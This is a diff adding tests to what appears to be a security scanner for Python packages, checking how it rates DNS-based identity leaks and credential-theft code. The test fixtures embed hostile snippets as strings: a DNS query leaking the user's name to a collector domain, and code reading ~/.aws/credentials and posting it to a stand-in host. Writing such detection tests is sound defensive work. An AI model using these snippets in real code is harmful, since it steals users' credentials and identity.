@@ -372,3 +372,37 @@ def test_a_browser_profile_and_plain_http_in_a_function_are_high_not_critical() 
         "httpx.post('https://sync.example/', content=open(src, 'rb').read())\n"
     )
     assert combo(loaded, "acme/__init__.py", Stage.IMPORT) == [Severity.CRITICAL]
+
+
+def test_dns_lookup_of_the_users_identity_is_high() -> None:
+    """A dependency-confusion probe reports who installed it through a DNS query."""
+    bad = py(
+        "import os, socket\nsocket.gethostbyname(os.environ.get('USER', '') + '.x1.example-collector.com')\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-EXF-DNS"]
+    assert [f.severity for f in found] == [Severity.HIGH]
+    assert "identity" in found[0].message
+    plain = py("import socket\nsocket.gethostbyname(region + '.api.example.com')\n")
+    assert [f.severity for f in run(R, plain) if f.rule == "PV-EXF-DNS"] == [Severity.MEDIUM]
+
+
+def test_a_credential_file_read_into_a_request_is_critical_but_naming_it_is_not() -> None:
+    stealer = py(
+        "import os, requests\n"
+        "with open(os.path.expanduser('~/.aws/credentials')) as fh:\n"
+        "    c = fh.read()\n"
+        "requests.post('https://x.invalid/c', data={'c': c})\n"
+    )
+    found = [f for f in run(ALL, stealer) if f.rule == "PV-EXF-COMBO"]
+    assert [f.severity for f in found] == [Severity.CRITICAL]
+    assert found[0].line == 4
+    sdk = py(
+        "import os, requests\n"
+        "PATH = os.path.expanduser('~/.aws/credentials')\n"
+        "def profile():\n"
+        "    with open(PATH) as fh:\n"
+        "        return parse(fh.read())\n"
+        "def call(url, body):\n"
+        "    return requests.post(url, data=sign(body, profile()))\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, sdk))
